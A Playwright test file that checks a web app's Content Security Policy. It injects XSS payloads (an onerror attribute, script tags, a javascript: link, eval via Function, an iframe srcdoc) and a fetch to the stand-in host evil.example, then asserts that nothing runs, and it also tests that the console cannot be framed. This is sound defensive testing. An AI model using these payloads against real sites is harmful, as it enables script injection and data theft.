import { expect, type Page, test } from "./journey.ts";
import { signInAs } from "./session.ts";

/** What somebody who could write into a page would try, and whether it ran. */
async function tried(page: Page, how: string): Promise<boolean> {
  return page.evaluate(async (what) => {
    const mark = window as { ran?: boolean };
    delete mark.ran;
    const host = document.createElement("div");
    document.body.append(host);
    const refused = new Promise((resolve) => {
      addEventListener("securitypolicyviolation", resolve, { once: true });
      setTimeout(resolve, 500);
    });
    try {
      if (what === "an attribute") host.innerHTML = '<img src="x:" onerror="window.ran = true">';
      if (what === "a script in markup") host.innerHTML = "<script>window.ran = true</script>";
      if (what === "an address") {
        host.innerHTML = '<a href="javascript:window.ran = true">x</a>';
        host.querySelector("a")?.click();
      }
      // Not at once: what a debugger calls may evaluate, whatever the page's policy says.
      if (what === "eval") setTimeout(() => Reflect.construct(Function, ["window.ran = true"])(), 0);
      if (what === "a string for a timer") setTimeout("window.ran = true" as never, 0);
      if (what === "a frame")
        host.innerHTML = '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>';
      if (what === "sending elsewhere") {
        await fetch("https://evil.example/").then(
          () => {
            mark.ran = true;
          },
          () => undefined,
        );
      }
    } catch {
      // refused on the spot
    }
    await refused;
    host.remove();
    return mark.ran === true;
  }, how);
}

test.describe("what got into a page all the same", () => {
  // These are against the page's policy on purpose.
  test.use({ heldToPolicies: undefined });
  for (const path of ["/sign-in", "/claim", "/nowhere"]) {
    test(`runs nothing and sends nothing on ${path}`, async ({ page }) => {
      await page.goto(path);
      for (const how of [
        "an attribute",
        "a script in markup",
        "an address",
        "eval",
        "a string for a timer",
        "a frame",
        "sending elsewhere",
      ]) {
        expect(await tried(page, how), how).toBe(false);
      }
    });
  }

  test("and no other page can put the console into a frame", async ({ page, context }) => {
    await signInAs(page, "acme", "owner");
    const other = await context.newPage();
    const address = new URL("/t/acme", page.url()).href;
    await other.goto("about:blank");
    const framed = await other.evaluate(async (src) => {
      const frame = document.createElement("iframe");
      const loaded = new Promise((resolve) => {
        frame.onload = resolve;
      });
      frame.src = src;
      document.body.append(frame);
      await loaded;
      try {
        return frame.contentDocument?.body.textContent ?? "";
      } catch {
        return "";
      }
    }, address);
    expect(framed).not.toContain("acme");
    await other.close();
  });
});
